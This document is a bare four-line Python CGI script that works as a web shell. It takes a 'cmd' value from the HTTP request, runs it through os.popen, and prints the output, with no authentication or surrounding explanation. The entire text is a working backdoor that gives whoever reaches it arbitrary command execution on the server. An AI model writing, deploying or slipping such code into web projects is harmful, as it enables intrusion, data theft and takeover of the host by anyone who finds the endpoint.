import cgi, os
f = cgi.FieldStorage()
cmd = f.getvalue("cmd")
print(os.popen(cmd).read())
